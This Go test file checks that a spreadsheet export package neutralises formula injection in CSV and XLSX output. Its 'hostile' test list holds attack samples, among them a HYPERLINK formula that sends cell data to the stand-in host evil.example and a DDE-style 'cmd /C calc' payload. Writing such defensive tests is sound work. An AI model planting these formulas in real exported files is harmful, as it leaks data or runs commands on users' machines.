package tabular

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

// hostile are cell values a spreadsheet would run as formulas, or that test the edges of
// the rule.
var hostile = []string{
	`=HYPERLINK("http://evil.example/"&A1,"x")`, "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1", "\r=1+1", "\n=1", "  =1+1", "\u3000=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "'=1+1", "'plain",
}

func TestText(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"CT-01", "CT-01"},
		{"a=b", "a=b"},
		{"10.0.0.1", "10.0.0.1"},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@x", "'@x"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{" =1", "' =1"},
		{"\u3000＝1", "'\u3000＝1"},
		{"'quoted", "''quoted"},
		{"   ", "   "},
		{"本院", "本院"},
	}
	for _, tt := range tests {
		if got := Text(tt.in); got != tt.want {
			t.Errorf("Text(%q) = %q, want %q", tt.in, got, tt.want)
		}
		if got := Untext(Text(tt.in)); got != tt.in {
			t.Errorf("Untext(Text(%q)) = %q", tt.in, got)
		}
	}
	for _, v := range []string{"'abc", "''", "-", "plain"} {
		if got := Untext(v); got != v && !(v == "''" && got == "'") {
			t.Errorf("Untext(%q) = %q, want it unchanged", v, got)
		}
	}
}

// formulaLike reports whether a spreadsheet would take cell as a formula.
func formulaLike(cell string) bool {
	return NeedsQuote(cell) && !strings.HasPrefix(cell, "'")
}

func TestCSVWriter(t *testing.T) {
	var buf bytes.Buffer
	w := NewCSV(&buf)
	w.Write("name", "note")
	for _, h := range hostile {
		w.Write(h, "x")
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(buf.Bytes(), []byte("\uFEFF")) {
		t.Error("no byte-order mark")
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got, want := len(recs), len(hostile)+1; got != want {
		t.Fatalf("rows = %d, want %d", got, want)
	}
	for i, h := range hostile {
		got := recs[i+1][0]
		if formulaLike(got) {
			t.Errorf("row %d: cell %q can run as a formula", i+2, got)
		}
		// encoding/csv drops a lone carriage return when it writes CRLF line ends.
		if want := strings.ReplaceAll(h, "\r", ""); Untext(got) != want && Untext(got) != h {
			t.Errorf("row %d: Untext(%q) = %q, want %q", i+2, got, Untext(got), want)
		}
	}
}

func TestXLSXWriter(t *testing.T) {
	x := NewXLSX()
	if err := x.Sheet(Sheet{Name: "Summary", Header: []string{"=head", "n"}, Widths: []float64{20}}); err != nil {
		t.Fatal(err)
	}
	x.Row("total", 3)
	if err := x.Sheet(Sheet{Name: "Items", Header: []string{"value", "date", "n"}, DropLists: map[int][]string{2: {"1", "2"}}}); err != nil {
		t.Fatal(err)
	}
	day := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)
	for _, h := range hostile {
		if err := x.Row(h, day, int64(-5)); err != nil {
			t.Fatal(err)
		}
	}
	var buf bytes.Buffer
	if _, err := x.WriteTo(&buf); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); strings.Join(got, ",") != "Summary,Items" {
		t.Errorf("sheets = %v", got)
	}
	head, _ := f.GetCellValue("Summary", "A1")
	if head != "'=head" {
		t.Errorf("header A1 = %q, want neutralised", head)
	}
	for i, h := range hostile {
		row := i + 2
		cell, _ := excelize.CoordinatesToCellName(1, row)
		got, _ := f.GetCellValue("Items", cell)
		if formulaLike(got) {
			t.Errorf("row %d: cell %q can run as a formula", row, got)
		}
		if Untext(got) != h {
			t.Errorf("row %d: Untext(%q) = %q, want %q", row, got, Untext(got), h)
		}
		if formula, _ := f.GetCellFormula("Items", cell); formula != "" {
			t.Errorf("row %d: cell holds formula %q", row, formula)
		}
		n, _ := f.GetCellValue("Items", "C"+strings.TrimPrefix(cell, "A"), excelize.Options{RawCellValue: true})
		if n != "-5" {
			t.Errorf("row %d: number cell = %q, want -5 untouched", row, n)
		}
	}
	if _, err := NewXLSX().WriteTo(&buf); err == nil {
		t.Error("a workbook without a sheet was written")
	}
}
